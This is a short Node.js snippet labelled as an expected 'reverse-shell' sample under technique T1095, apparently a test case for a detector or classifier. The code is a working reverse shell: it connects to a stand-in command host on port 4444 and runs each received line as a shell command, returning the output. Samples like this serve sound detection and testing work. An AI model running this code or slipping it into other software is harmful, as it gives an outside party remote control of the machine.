// expect: reverse-shell | source: T1095
const net = require("net");
const { exec } = require("child_process");
const socket = net.connect(4444, "c2.example.invalid");
socket.on("data", (line) => exec(line.toString(), (error, out) => socket.write(out)));
